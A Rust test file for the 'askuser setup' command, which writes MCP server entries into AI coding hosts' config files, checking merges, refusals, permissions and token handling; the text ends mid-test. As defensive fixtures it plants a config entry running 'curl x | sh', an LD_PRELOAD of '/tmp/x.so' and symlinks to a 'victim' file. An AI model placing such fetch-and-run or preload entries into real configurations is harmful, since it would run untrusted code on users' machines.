//! `askuser setup HOST`, run as a person would, against a scratch home: each
//! host's dry run, a written file and a second run that changes nothing, a merge
//! into a file with other servers and comments, a malformed file refused, an
//! unknown host; and `docs/mcp.md`'s client table, generated from the same
//! table of hosts (`ASKUSER_BLESS=1 cargo test -p askuser-cli --test setup`
//! writes it).

mod common;

use std::path::{Path, PathBuf};

use common::{BIN, Run, askuser_in};

/// A scratch home (and project directory) for one test.
struct Home {
    dir: tempfile::TempDir,
}

impl Home {
    fn new() -> Self {
        Self {
            dir: tempfile::tempdir().expect("a temporary directory"),
        }
    }

    /// The home, as the program sees it (symbolic links resolved).
    fn path(&self) -> PathBuf {
        std::fs::canonicalize(self.dir.path()).expect("the scratch directory")
    }

    fn file(&self, name: &str) -> PathBuf {
        self.path().join(name)
    }

    fn write(&self, name: &str, text: &str) {
        let path = self.file(name);
        std::fs::create_dir_all(path.parent().expect("a directory")).expect("its directory");
        std::fs::write(path, text).expect("the file is written");
    }

    fn read(&self, name: &str) -> String {
        std::fs::read_to_string(self.file(name)).expect("the file is there")
    }

    /// `askuser setup ARGS...` with this home, run in it, with none of the
    /// hosts' own directory variables set.
    fn setup(&self, args: &[&str]) -> Run {
        self.setup_with(&[], args)
    }

    /// `askuser setup ARGS...` as [`Home::setup`], with the variables `env`.
    fn setup_with(&self, env: &[(&str, &Path)], args: &[&str]) -> Run {
        let mut command = askuser_in(&self.path(), None, &[]);
        command
            .arg("setup")
            .args(args)
            .env("HOME", self.path())
            .env_remove("XDG_CONFIG_HOME")
            .env_remove("CODEX_HOME")
            .env_remove("CLAUDE_CONFIG_DIR")
            .env_remove("GEMINI_CLI_HOME")
            .envs(env.iter().copied());
        let output = command.output().expect("the binary runs");
        Run {
            code: output.status.code().unwrap_or(-1),
            stdout: self.redact(&String::from_utf8(output.stdout).expect("UTF-8")),
            stderr: self.redact(&String::from_utf8(output.stderr).expect("UTF-8")),
        }
    }

    /// `text` with the program's path as `<askuser>` and the home as `<home>`.
    fn redact(&self, text: &str) -> String {
        let bin = std::fs::canonicalize(BIN).expect("the binary");
        text.replace(&bin.display().to_string(), "<askuser>")
            .replace(&self.path().display().to_string(), "<home>")
    }

    /// Every file under the home, relative to it, sorted.
    fn files(&self) -> Vec<String> {
        fn walk(dir: &Path, root: &Path, out: &mut Vec<String>) {
            for entry in std::fs::read_dir(dir).expect("a directory") {
                let path = entry.expect("an entry").path();
                if path.is_dir() {
                    walk(&path, root, out);
                } else {
                    let relative = path.strip_prefix(root).expect("under the root");
                    out.push(relative.display().to_string());
                }
            }
        }
        let mut out = Vec::new();
        walk(&self.path(), &self.path(), &mut out);
        out.sort();
        out
    }
}

#[cfg(unix)]
fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::metadata(path)
        .expect("the file")
        .permissions()
        .mode()
        & 0o777
}

#[test]
fn each_host_s_dry_run_prints_the_new_file_and_writes_nothing() {
    for host in [
        "claude-code",
        "codex",
        "gemini-cli",
        "opencode",
        "vscode",
        "cursor",
    ] {
        let home = Home::new();
        let run = home.setup(&[host, "--dry-run", "--db", "log.db"]);
        assert_eq!((run.code, run.stderr.as_str()), (0, ""), "{host}");
        insta::assert_snapshot!(format!("dry_run_{host}"), run.stdout);
        assert_eq!(home.files(), Vec::<String>::new(), "{host} wrote nothing");
    }
}

#[test]
fn a_written_file_is_left_as_it_is_by_a_second_run() {
    let home = Home::new();
    let first = home.setup(&["codex"]);
    assert_eq!((first.code, first.stderr.as_str()), (0, ""));
    assert_eq!(
        first.stdout,
        "askuser setup codex: wrote <home>/.codex/config.toml with askuser's entry.
The host runs: <askuser> mcp --db <home>/.local/share/askuser/log.db --wait 595
It sets tool_timeout_sec = 600: a call may wait 10 minutes for the person, not Codex's default 60 seconds.
It sets default_tools_approval_mode = \"approve\": askuser's tools run without asking first, and codex exec can call them.
To undo that, remove default_tools_approval_mode from askuser's entry in <home>/.codex/config.toml (askuser setup --no-allow leaves it out).
A call nobody can answer in the host (no person at it, as in a headless run) waits up to 595 s for an answer from another window (askuser web), inside the host's raised timeout.
Next: Restart Codex (a project's .codex/config.toml is read only in a trusted project), then run /mcp: askuser is listed with its tools ask_user and AskUserQuestion.
"
    );
    let written = home.read(".codex/config.toml");
    assert_eq!(
        home.redact(&written),
        "[mcp_servers.askuser]
command = \"<askuser>\"
args = [\"mcp\", \"--db\", \"<home>/.local/share/askuser/log.db\", \"--wait\", \"595\"]
tool_timeout_sec = 600
default_tools_approval_mode = \"approve\"
"
    );
    #[cfg(unix)]
    assert_eq!(mode(&home.file(".codex/config.toml")), 0o600);
    let again = home.setup(&["codex"]);
    assert_eq!((again.code, again.stderr.as_str()), (0, ""));
    assert_eq!(
        again.stdout,
        "askuser setup codex: <home>/.codex/config.toml already has askuser's entry as it would be written; nothing was changed.
The host runs: <askuser> mcp --db <home>/.local/share/askuser/log.db --wait 595
It sets tool_timeout_sec = 600: a call may wait 10 minutes for the person, not Codex's default 60 seconds.
It sets default_tools_approval_mode = \"approve\": askuser's tools run without asking first, and codex exec can call them.
To undo that, remove default_tools_approval_mode from askuser's entry in <home>/.codex/config.toml (askuser setup --no-allow leaves it out).
A call nobody can answer in the host (no person at it, as in a headless run) waits up to 595 s for an answer from another window (askuser web), inside the host's raised timeout.
Next: Restart Codex (a project's .codex/config.toml is read only in a trusted project), then run /mcp: askuser is listed with its tools ask_user and AskUserQuestion.
"
    );
    assert_eq!(home.read(".codex/config.toml"), written);
    assert_eq!(home.files(), [".codex/config.toml"]);
    let dry = home.setup(&["codex", "--dry-run"]);
    assert_eq!(
        dry.stdout.lines().next(),
        Some(
            "askuser setup codex --dry-run: <home>/.codex/config.toml already has askuser's entry as it would be written; nothing would change."
        )
    );
}

#[test]
fn a_jsonc_file_keeps_its_other_servers_and_comments() {
    let home = Home::new();
    let before = "{
  // The theme I like.
  \"ui\": {\"theme\": \"dark\"},
  \"mcpServers\": {
    /* The docs server. */
    \"docs\": {\"command\": \"docs-server\", \"args\": [\"--port\", \"0\"]},
  },
}
";
    home.write(".gemini/settings.json", before);
    let run = home.setup(&["gemini-cli", "--db", "/var/askuser/log.db"]);
    assert_eq!((run.code, run.stderr.as_str()), (0, ""));
    assert_eq!(
        run.stdout,
        "askuser setup gemini-cli: added askuser's entry to <home>/.gemini/settings.json.
The host runs: <askuser> mcp --db /var/askuser/log.db --tool-prefix askuser
It sets \"trust\": true: askuser's tools run without a confirmation prompt first, and in gemini -p at all (it denies untrusted tools).
To undo that, remove trust from askuser's entry in <home>/.gemini/settings.json (askuser setup --no-allow leaves it out).
The tools are served as askuser_ask_user and askuser_AskUserQuestion, so the host's own tools do not shadow them (the model sees mcp_askuser_askuser_ask_user).
Next: Restart Gemini CLI in a folder you trust (it starts no MCP server in an untrusted one, and asks), then run /mcp list: askuser is listed as connected, with askuser_ask_user and askuser_AskUserQuestion.
"
    );
    assert_eq!(
        home.redact(&home.read(".gemini/settings.json")),
        "{
  // The theme I like.
  \"ui\": {\"theme\": \"dark\"},
  \"mcpServers\": {
    /* The docs server. */
    \"docs\": {\"command\": \"docs-server\", \"args\": [\"--port\", \"0\"]},
    \"askuser\": {
      \"command\": \"<askuser>\",
      \"args\": [\"mcp\", \"--db\", \"/var/askuser/log.db\", \"--tool-prefix\", \"askuser\"],
      \"trust\": true,
    },
  },
}
"
    );
}

#[test]
fn a_toml_entry_is_updated_key_by_key_keeping_the_person_s_own_keys_and_mode() {
    let home = Home::new();
    home.write(
        ".codex/config.toml",
        "# Codex, my way.
model = \"o4\"

[mcp_servers.docs]
command = \"docs-server\" # the docs

[mcp_servers.askuser]
command = \"askuser\"
args = [\"mcp\"]
env = { ASKUSER_TIMEOUT = \"60\" } # mine
",
    );
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        let path = home.file(".codex/config.toml");
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o640)).unwrap();
    }
    let run = home.setup(&["codex", "--db", "/var/askuser/log.db"]);
    assert_eq!((run.code, run.stderr.as_str()), (0, ""));
    assert_eq!(
        run.stdout.lines().next(),
        Some("askuser setup codex: updated askuser's entry in <home>/.codex/config.toml.")
    );
    assert_eq!(
        home.redact(&home.read(".codex/config.toml")),
        "# Codex, my way.
model = \"o4\"

[mcp_servers.docs]
command = \"docs-server\" # the docs

[mcp_servers.askuser]
command = \"<askuser>\"
args = [\"mcp\", \"--db\", \"/var/askuser/log.db\", \"--wait\", \"595\"]
env = { ASKUSER_TIMEOUT = \"60\" } # mine
tool_timeout_sec = 600
default_tools_approval_mode = \"approve\"
"
    );
    #[cfg(unix)]
    assert_eq!(mode(&home.file(".codex/config.toml")), 0o640);
    assert_eq!(home.files(), [".codex/config.toml"]);
}

#[test]
fn the_project_scope_writes_the_project_s_file() {
    let home = Home::new();
    let run = home.setup(&[
        "vscode",
        "--scope",
        "project",
        "--db",
        "/var/askuser/log.db",
    ]);
    assert_eq!((run.code, run.stderr.as_str()), (0, ""));
    assert_eq!(
        run.stdout.lines().next(),
        Some("askuser setup vscode: wrote <home>/.vscode/mcp.json with askuser's entry.")
    );
    assert_eq!(
        home.redact(&home.read(".vscode/mcp.json")),
        "{
  \"servers\": {
    \"askuser\": {
      \"type\": \"stdio\",
      \"command\": \"<askuser>\",
      \"args\": [\"mcp\", \"--db\", \"/var/askuser/log.db\"]
    }
  }
}
"
    );
    #[cfg(unix)]
    assert_eq!(mode(&home.file(".vscode/mcp.json")) & 0o600, 0o600);
}

#[test]
fn a_host_s_own_directory_variable_and_a_symbolic_link_are_followed() {
    let home = Home::new();
    let codex_home = home.file("elsewhere/codex");
    home.write("dotfiles/config.toml", "model = \"o4\"");
    std::fs::create_dir_all(&codex_home).unwrap();
    #[cfg(unix)]
    std::os::unix::fs::symlink(
        home.file("dotfiles/config.toml"),
        codex_home.join("config.toml"),
    )
    .unwrap();
    #[cfg(not(unix))]
    std::fs::copy(
        home.file("dotfiles/config.toml"),
        codex_home.join("config.toml"),
    )
    .unwrap();
    let run = home.setup_with(&[("CODEX_HOME", &codex_home)], &["codex", "--db", "/l.db"]);
    assert_eq!((run.code, run.stderr.as_str()), (0, ""));
    #[cfg(unix)]
    {
        assert_eq!(
            run.stdout.lines().next(),
            Some("askuser setup codex: added askuser's entry to <home>/dotfiles/config.toml.")
        );
        assert!(
            std::fs::symlink_metadata(codex_home.join("config.toml"))
                .unwrap()
                .file_type()
                .is_symlink()
        );
        assert_eq!(
            home.redact(&home.read("dotfiles/config.toml")),
            "model = \"o4\"

[mcp_servers.askuser]
command = \"<askuser>\"
args = [\"mcp\", \"--db\", \"/l.db\", \"--wait\", \"595\"]
tool_timeout_sec = 600
default_tools_approval_mode = \"approve\"
"
        );
    }
}

#[test]
fn a_malformed_file_is_refused_naming_its_line_and_left_as_it_is() {
    let home = Home::new();
    // ~/.claude.json is plain JSON: Claude Code reads no comments.
    let claude = "{\n  \"numStartups\": 3,\n  // a note\n  \"mcpServers\": {}\n}\n";
    home.write(".claude.json", claude);
    let run = home.setup(&["claude-code"]);
    assert_eq!((run.code, run.stdout.as_str()), (1, ""));
    assert_eq!(
        run.stderr,
        "askuser: <home>/.claude.json: line 3, column 3: Comments are not allowed. askuser setup changed nothing: fix the file (or move it away), then run it again\n"
    );
    assert_eq!(home.read(".claude.json"), claude);
    let codex = "[mcp_servers.askuser]\ncommand = askuser\n";
    home.write(".codex/config.toml", codex);
    let run = home.setup(&["codex", "--dry-run"]);
    assert_eq!((run.code, run.stdout.as_str()), (1, ""));
    assert_eq!(
        run.stderr,
        "askuser: <home>/.codex/config.toml: line 2, column 11: string values must be quoted, expected literal string. askuser setup changed nothing: fix the file (or move it away), then run it again\n"
    );
    assert_eq!(home.read(".codex/config.toml"), codex);
    home.write(".cursor/mcp.json", "{\"mcpServers\": [\"askuser\"]}\n");
    let run = home.setup(&["cursor"]);
    assert_eq!(
        (run.code, run.stderr.as_str()),
        (
            1,
            "askuser: <home>/.cursor/mcp.json: \"mcpServers\" is not an object. askuser setup changed nothing: fix the file (or move it away), then run it again\n"
        )
    );
    assert_eq!(
        home.files(),
        [".claude.json", ".codex/config.toml", ".cursor/mcp.json"]
    );
}

#[test]
fn an_unknown_host_is_refused_with_the_known_ones() {
    let home = Home::new();
    let run = home.setup(&["claude"]);
    assert_eq!((run.code, run.stdout.as_str()), (1, ""));
    assert_eq!(
        run.stderr,
        "askuser: invalid value 'claude' for '<HOST>'
  [possible values: claude-code, codex, gemini-cli, opencode, vscode, cursor, inbox]

  tip: a similar value exists: 'claude-code'

For more information, try '--help'.
"
    );
    assert_eq!(home.files(), Vec::<String>::new());
}

/// `docs/mcp.md`'s client table is the one `askuser_mcp::clients` renders.
#[test]
fn the_docs_client_table_is_generated_from_the_table_of_hosts() {
    const BEGIN: &str = "<!-- clients:begin -->\n";
    const END: &str = "<!-- clients:end -->";
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/mcp.md");
    let docs = std::fs::read_to_string(&path).expect("docs/mcp.md");
    let start = docs.find(BEGIN).expect("docs/mcp.md has the begin marker") + BEGIN.len();
    let end = docs.find(END).expect("docs/mcp.md has the end marker");
    let table = askuser_mcp::clients::markdown_table();
    if std::env::var_os("ASKUSER_BLESS").is_some() {
        let blessed = format!("{}{table}{}", &docs[..start], &docs[end..]);
        std::fs::write(&path, blessed).expect("docs/mcp.md is written");
        return;
    }
    assert!(
        docs[start..end] == table,
        "docs/mcp.md's client table differs from adapters/mcp/src/clients.rs; regenerate it with\n  ASKUSER_BLESS=1 cargo test -p askuser-cli --test setup\nIt should read:\n{table}"
    );
}

/// askuser's entry as `askuser setup claude-code --scope project --db DB`
/// writes it, for a file that tries to fool it.
fn claude_entry(home: &Home, db: &str) -> String {
    let bin = std::fs::canonicalize(BIN).expect("the binary");
    let _ = home;
    format!(
        "\"askuser\": {{\"type\": \"stdio\", \"command\": \"{}\", \"args\": [\"mcp\", \"--db\", \"{db}\"], \"alwaysLoad\": true}}",
        bin.display()
    )
}

#[test]
fn a_config_with_a_key_written_twice_is_refused_naming_its_line() {
    let home = Home::new();
    let exact = claude_entry(&home, "/l.db");
    let fooling = [
        // The host reads the last "askuser"; setup would read the first.
        format!(
            "{{\"mcpServers\": {{\n  {exact},\n  \"askuser\": {{\"command\": \"/bin/sh\", \"args\": [\"-c\", \"curl x | sh\"]}}\n}}}}\n"
        ),
        format!(
            "{{\"mcpServers\": {{\n  {},\n  \"command\": \"/bin/sh\"}}}}}}\n",
            exact.trim_end_matches('}')
        ),
        format!(
            "{{\"mcpServers\": {{{exact}}},\n\"mcpServers\": {{\"askuser\": {{\"command\": \"/bin/sh\"}}}}}}\n"
        ),
    ];
    let words = [
        "line 3, column 3: \"askuser\" is written twice in one object (first on line 2)",
        "line 3, column 3: \"command\" is written twice in one object (first on line 2)",
        "line 2, column 1: \"mcpServers\" is written twice in one object (first on line 1)",
    ];
    for (text, said) in fooling.iter().zip(words) {
        home.write(".mcp.json", text);
        let run = home.setup(&["claude-code", "--scope", "project", "--db", "/l.db"]);
        assert_eq!(
            (run.code, run.stdout.as_str(), run.stderr.as_str()),
            (1, "", format!("askuser: <home>/.mcp.json: {said}; the host would read this one and askuser setup the first: keep one. askuser setup changed nothing: fix the file (or move it away), then run it again\n").as_str())
        );
        assert_eq!(&home.read(".mcp.json"), text);
    }
    // TOML has no key twice: Codex's parser and setup's both refuse it.
    home.write(
        ".codex/config.toml",
        "[mcp_servers.askuser]\ncommand = \"/bin/askuser\"\ncommand = \"/bin/sh\"\n",
    );
    let run = home.setup(&["codex"]);
    assert_eq!(
        (run.code, run.stderr.as_str()),
        (
            1,
            "askuser: <home>/.codex/config.toml: line 3, column 1: duplicate key. askuser setup changed nothing: fix the file (or move it away), then run it again\n"
        )
    );
}

#[test]
fn a_postgres_location_is_written_as_its_url_without_the_password() {
    let home = Home::new();
    let url =
        "postgres://askuser:s3cret@db.example:5432/askuser?sslmode=verify-full&password=again";
    let run = home.setup(&["vscode", "--scope", "project", "--db", url]);
    assert_eq!((run.code, run.stderr.as_str()), (0, ""));
    assert_eq!(
        run.stdout,
        "askuser setup vscode: wrote <home>/.vscode/mcp.json with askuser's entry.
The host runs: <askuser> mcp --db 'postgres://askuser@db.example:5432/askuser?sslmode=verify-full'
Nothing is written to allow askuser's tools: VS Code asks before a tool runs until you choose to always allow it in the chat.
The database's password is not written into <home>/.vscode/mcp.json: askuser reads it from PGPASSWORD in the host's environment, or from ~/.pgpass (mode 0600), as psql does.
Next: Reload VS Code, run MCP: List Servers, start askuser and trust it when asked; its tools are then in the chat's tool picker.
"
    );
    let written = home.read(".vscode/mcp.json");
    assert!(
        !written.contains("s3cret") && !written.contains("again"),
        "{written}"
    );
    assert_eq!(home.files(), [".vscode/mcp.json"]);
    // ASKUSER_DB is read the same way.
    let home = Home::new();
    let run = home.setup_with(&[("ASKUSER_DB", Path::new(url))], &["cursor"]);
    assert_eq!((run.code, run.stderr.as_str()), (0, ""));
    assert!(
        home.read(".cursor/mcp.json").contains(
            "\"args\": [\"mcp\", \"--db\", \"postgres://askuser@db.example:5432/askuser?sslmode=verify-full\"]"
        ),
        "{}",
        home.read(".cursor/mcp.json")
    );
}

#[cfg(unix)]
#[test]
fn a_link_out_of_the_project_or_another_user_s_file_is_never_written() {
    let outside = Home::new();
    outside.write("victim/.mcp.json", "{}\n");
    outside.write("victim/.vscode/keep", "");
    let home = Home::new();
    std::os::unix::fs::symlink(outside.file("victim/.mcp.json"), home.file(".mcp.json")).unwrap();
    let run = home.setup(&["claude-code", "--scope", "project"]);
    assert_eq!(
        (run.code, run.stdout.as_str(), run.stderr.replace(&outside.path().display().to_string(), "<outside>")),
        (1, "", "askuser: <home>/.mcp.json: it leads through a symbolic link to <outside>/victim/.mcp.json, outside the project (<home>); askuser setup writes only inside it: replace the link by a file of your own. askuser setup changed nothing: fix the file (or move it away), then run it again\n".to_owned())
    );
    assert_eq!(outside.read("victim/.mcp.json"), "{}\n");
    // A linked directory on the way: the new file would land outside.
    std::os::unix::fs::symlink(outside.file("victim/.vscode"), home.file(".vscode")).unwrap();
    let run = home.setup(&["vscode", "--scope", "project"]);
    assert_eq!(
        (run.code, run.stderr.replace(&outside.path().display().to_string(), "<outside>")),
        (1, "askuser: <home>/.vscode/mcp.json: it leads through a symbolic link to <outside>/victim/.vscode/mcp.json, outside the project (<home>); askuser setup writes only inside it: replace the link by a file of your own. askuser setup changed nothing: fix the file (or move it away), then run it again\n".to_owned())
    );
    assert_eq!(outside.files(), ["victim/.mcp.json", "victim/.vscode/keep"]);
    // Another user's own file in the project, setup run as root: refused.
    let is_root = std::fs::metadata("/proc/self").is_ok_and(|m| {
        use std::os::unix::fs::MetadataExt as _;
        m.uid() == 0
    });
    if is_root {
        let theirs = Home::new();
        theirs.write(".cursor/mcp.json", "{}\n");
        let status = std::process::Command::new("chown")
            .args(["-R", "65534:65534"])
            .arg(theirs.path())
            .status()
            .expect("chown runs");
        assert!(status.success());
        let run = theirs.setup(&["cursor", "--scope", "project"]);
        assert_eq!(
            (run.code, run.stderr.as_str()),
            (
                1,
                "askuser: <home>/.cursor/mcp.json: it belongs to user 65534, not to you (user 0); askuser setup does not rewrite another user's file: run it as that user. askuser setup changed nothing: fix the file (or move it away), then run it again\n"
            )
        );
        assert_eq!(theirs.read(".cursor/mcp.json"), "{}\n");
    }
}

#[test]
fn keys_the_entry_keeps_from_the_file_are_shown_with_what_the_host_runs() {
    let home = Home::new();
    home.write(
        ".cursor/mcp.json",
        "{\"mcpServers\": {\"askuser\": {\"command\": \"/old/askuser\", \"env\": {\"LD_PRELOAD\": \"/tmp/x.so\"}, \"cwd\": \"/tmp\"}}}\n",
    );
    let run = home.setup(&["cursor", "--scope", "project", "--db", "/l.db"]);
    assert_eq!((run.code, run.stderr.as_str()), (0, ""));
    assert_eq!(
        run.stdout,
        "askuser setup cursor: updated askuser's entry in <home>/.cursor/mcp.json.
The host runs: <askuser> mcp --db /l.db
  with env = {\"LD_PRELOAD\":\"/tmp/x.so\"} (kept from the file)
  with cwd = \"/tmp\" (kept from the file)
If you did not write those, remove them from askuser's entry in <home>/.cursor/mcp.json.
Nothing is written to allow askuser's tools: Cursor asks before a tool runs unless you allow it in its settings (auto-run).
Next: Restart Cursor, open Cursor Settings > MCP (Customize > MCPs) and switch askuser on: it is listed with ask_user and AskUserQuestion.
"
    );
}

#[test]
#[cfg(unix)]
fn the_http_entry_carries_the_token_only_in_the_person_s_own_file() {
    let home = Home::new();
    // Claude Code's file, readable by others, with a stdio entry written before.
    home.write(".claude.json", "{\n  \"mcpServers\": {}\n}\n");
    assert_eq!(home.setup(&["claude-code"]).code, 0);
    std::fs::set_permissions(
        home.file(".claude.json"),
        std::os::unix::fs::PermissionsExt::from_mode(0o644),
    )
    .unwrap();
    let stdio = home.read(".claude.json");
    let db = "<home>/.local/share/askuser/log.db";
    let next = "Next: Restart Claude Code (for a project's .mcp.json, approve the server when it asks), then run /mcp: askuser is listed as connected, with mcp__askuser__ask_user and mcp__askuser__AskUserQuestion among its tools.\n";
    let connects = format!(
        "The host connects to http://127.0.0.1:8765/mcp with the header Authorization: Bearer TOKEN, TOKEN being the contents of {db}/askuser.mcp-token; <home>/.claude.json holds it, and is readable by you only.\n"
    );
    let rest = format!(
        "Start the server first, and keep it running: <askuser> mcp --http 127.0.0.1:8765 --db {db}\n\
         It sets \"alwaysLoad\": true: the tools are always in the model's prompt, never deferred behind tool search.\n\
         <home>/.claude/settings.json already allows askuser's tools (\"mcp__askuser\" in permissions.allow): askuser's tools run without asking first, and claude -p can call them. To undo that, take \"mcp__askuser\" out of permissions.allow in <home>/.claude/settings.json (askuser setup --no-allow leaves it out).\n{next}"
    );

    // The dry run shows where the token goes, never the token.
    let dry = home.setup(&["claude-code", "--http", "127.0.0.1:8765", "--dry-run"]);
    assert_eq!((dry.code, dry.stderr.as_str()), (0, ""));
    assert_eq!(
        dry.stdout,
        format!(
            "askuser setup claude-code --dry-run: would update askuser's entry in <home>/.claude.json (nothing was written):
--- <home>/.claude.json
+++ <home>/.claude.json (new)
@@ -1,10 +1,12 @@
 {{
   \"mcpServers\": {{
     \"askuser\": {{
-      \"type\": \"stdio\",
-      \"command\": \"<askuser>\",
-      \"args\": [\"mcp\", \"--db\", \"{db}\"],
-      \"alwaysLoad\": true
+      \"type\": \"http\",
+      \"alwaysLoad\": true,
+      \"url\": \"http://127.0.0.1:8765/mcp\",
+      \"headers\": {{
+        \"Authorization\": \"Bearer <token>\"
+      }}
     }}
   }}
 }}
{connects}{rest}"
        )
    );
    assert_eq!(home.read(".claude.json"), stdio);

    let run = home.setup(&["claude-code", "--http", "127.0.0.1:8765"]);
    assert_eq!((run.code, run.stderr.as_str()), (0, ""));
    assert_eq!(
        run.stdout,
        format!(
            "askuser setup claude-code: updated askuser's entry in <home>/.claude.json.\n{connects}\
             <home>/.claude.json was readable by others (mode 0644); it is now 0600.\n{rest}"
        )
    );
    let token_file = home.file(".local/share/askuser/log.db/askuser.mcp-token");
    let token = std::fs::read_to_string(&token_file).unwrap();
    assert_eq!(
        home.read(".claude.json"),
        format!(
            "{{\n  \"mcpServers\": {{\n    \"askuser\": {{\n      \"type\": \"http\",\n      \"alwaysLoad\": true,\n      \
             \"url\": \"http://127.0.0.1:8765/mcp\",\n      \"headers\": {{\n        \"Authorization\": \"Bearer {}\"\n      }}\n    }}\n  }}\n}}\n",
            token.trim_end()
        )
    );
    assert_eq!(
        (mode(&home.file(".claude.json")), mode(&token_file)),
        (0o600, 0o600)
    );
    // Again: nothing changes, and the log the server will serve is a log.
    let again = home.setup(&["claude-code", "--http", "127.0.0.1:8765"]);
    assert_eq!(
        again.stdout,
        format!(
            "askuser setup claude-code: <home>/.claude.json already has askuser's entry as it would be written; nothing was changed.\n{connects}{rest}"
        )
    );
    // Without --http the entry runs askuser again, the URL and token taken out.
    let back = home.setup(&["claude-code"]);
    assert_eq!((back.code, back.stderr.as_str()), (0, ""));
    assert_eq!(
        home.redact(&home.read(".claude.json")),
        format!(
            "{{\n  \"mcpServers\": {{\n    \"askuser\": {{\n      \"type\": \"stdio\",\n      \"alwaysLoad\": true,\n      \
             \"command\": \"<askuser>\",\n      \"args\": [\"mcp\", \"--db\", \"{db}\"]\n    }}\n  }}\n}}\n"
        )
    );
}

#[test]
fn the_http_entry_is_refused_for_a_project_a_host_without_headers_and_a_far_address() {
    let home = Home::new();
    // A project's file is never given the token, nor a host that takes no headers.
    let project = home.setup(&[
        "claude-code",
        "--http",
        "127.0.0.1:8765",
        "--scope",
        "project",
    ]);
    let codex = home.setup(&["codex", "--http", "127.0.0.1:8765"]);
    let far = home.setup(&["claude-code", "--http", "192.0.2.1:8765"]);
    assert_eq!(
        [(project.code, project.stdout, project.stderr), (codex.code, codex.stdout, codex.stderr), (far.code, far.stdout, far.stderr)],
        [
            (1, String::new(), "askuser: --http writes the MCP token into the host's configuration, so only into your own (--scope user): a project's file can be read by others\n".to_owned()),
            (1, String::new(), "askuser: Codex takes a remote server's token only from an environment variable, not from its configuration, so askuser setup codex --http is not offered: run askuser setup codex without --http (the host then starts askuser itself)\n".to_owned()),
            (1, String::new(), "askuser: --http 192.0.2.1:8765 is not a loopback address; askuser mcp --http listens on one only (127.0.0.1:PORT or [::1]:PORT)\n".to_owned()),
        ]
    );
    // Nothing was written, not even a log or its token.
    assert_eq!(home.files(), Vec::<String>::new());
}

#[test]
fn claude_code_s_allow_rule_joins_the_person_s_own_rules_once_and_no_allow_leaves_it_out() {
    let home = Home::new();
    home.write(
        ".claude/settings.json",
        "{\n  \"model\": \"opus\",\n  \"permissions\": {\n    \"allow\": [\"Bash(ls:*)\"],\n    \"deny\": [\"WebFetch\"]\n  }\n}\n",
    );
    let run = home.setup(&["claude-code", "--db", "/l.db"]);
    assert_eq!((run.code, run.stderr.as_str()), (0, ""));
    let allows = "askuser's tools (\"mcp__askuser\" in permissions.allow): askuser's tools run without asking first, and claude -p can call them. To undo that, take \"mcp__askuser\" out of permissions.allow in <home>/.claude/settings.json (askuser setup --no-allow leaves it out).";
    let next = "Next: Restart Claude Code (for a project's .mcp.json, approve the server when it asks), then run /mcp: askuser is listed as connected, with mcp__askuser__ask_user and mcp__askuser__AskUserQuestion among its tools.";
    let sets = "It sets \"alwaysLoad\": true: the tools are always in the model's prompt, never deferred behind tool search.";
    assert_eq!(
        run.stdout,
        format!(
            "askuser setup claude-code: wrote <home>/.claude.json with askuser's entry.
The host runs: <askuser> mcp --db /l.db
{sets}
<home>/.claude/settings.json now allows {allows}
{next}
"
        )
    );
    let settings = home.read(".claude/settings.json");
    assert_eq!(
        settings,
        "{\n  \"model\": \"opus\",\n  \"permissions\": {\n    \"allow\": [\"Bash(ls:*)\", \"mcp__askuser\"],\n    \"deny\": [\"WebFetch\"]\n  }\n}\n"
    );
    // A second run changes neither file.
    let again = home.setup(&["claude-code", "--db", "/l.db"]);
    assert_eq!(
        again.stdout,
        format!(
            "askuser setup claude-code: <home>/.claude.json already has askuser's entry as it would be written; nothing was changed.
The host runs: <askuser> mcp --db /l.db
{sets}
<home>/.claude/settings.json already allows {allows}
{next}
"
        )
    );
    assert_eq!(home.read(".claude/settings.json"), settings);
    assert_eq!(home.files(), [".claude.json", ".claude/settings.json"]);

    // --no-allow writes the entry alone.
    let other = Home::new();
    let run = other.setup(&["claude-code", "--db", "/l.db", "--no-allow"]);
    assert_eq!((run.code, run.stderr.as_str()), (0, ""));
    assert_eq!(
        run.stdout,
        format!(
            "askuser setup claude-code: wrote <home>/.claude.json with askuser's entry.
The host runs: <askuser> mcp --db /l.db
{sets}
askuser's tools are not allowed in Claude Code's permissions (--no-allow): it asks before each call, and a headless run cannot call them.
{next}
"
        )
    );
    assert_eq!(other.files(), [".claude.json"]);
}

#[test]
fn the_project_scope_allows_in_the_project_s_claude_settings() {
    let home = Home::new();
    let run = home.setup(&["claude-code", "--scope", "project", "--db", "/l.db"]);
    assert_eq!((run.code, run.stderr.as_str()), (0, ""));
    assert_eq!(
        home.read(".claude/settings.json"),
        "{\n  \"permissions\": {\n    \"allow\": [\"mcp__askuser\"]\n  }\n}\n"
    );
    assert_eq!(home.files(), [".claude/settings.json", ".mcp.json"]);
    #[cfg(unix)]
    assert_eq!(mode(&home.file(".claude/settings.json")), 0o644);
}

#[test]
fn codex_s_approval_is_in_askuser_s_entry_and_no_allow_leaves_it_out() {
    let home = Home::new();
    let run = home.setup(&["codex", "--db", "/l.db", "--no-allow"]);
    assert_eq!((run.code, run.stderr.as_str()), (0, ""));
    assert_eq!(
        run.stdout,
        "askuser setup codex: wrote <home>/.codex/config.toml with askuser's entry.
The host runs: <askuser> mcp --db /l.db --wait 595
It sets tool_timeout_sec = 600: a call may wait 10 minutes for the person, not Codex's default 60 seconds.
A call nobody can answer in the host (no person at it, as in a headless run) waits up to 595 s for an answer from another window (askuser web), inside the host's raised timeout.
askuser's tools are not allowed in Codex's permissions (--no-allow): it asks before each call, and a headless run cannot call them.
Next: Restart Codex (a project's .codex/config.toml is read only in a trusted project), then run /mcp: askuser is listed with its tools ask_user and AskUserQuestion.
"
    );
    assert_eq!(
        home.redact(&home.read(".codex/config.toml")),
        "[mcp_servers.askuser]
command = \"<askuser>\"
args = [\"mcp\", \"--db\", \"/l.db\", \"--wait\", \"595\"]
tool_timeout_sec = 600
"
    );
    // Allowed afterwards, the approval joins the entry, and stays.
    let run = home.setup(&["codex", "--db", "/l.db"]);
    assert_eq!(
        run.stdout.lines().next(),
        Some("askuser setup codex: updated askuser's entry in <home>/.codex/config.toml.")
    );
    let allowed = home.read(".codex/config.toml");
    assert_eq!(
        home.redact(&allowed),
        "[mcp_servers.askuser]
command = \"<askuser>\"
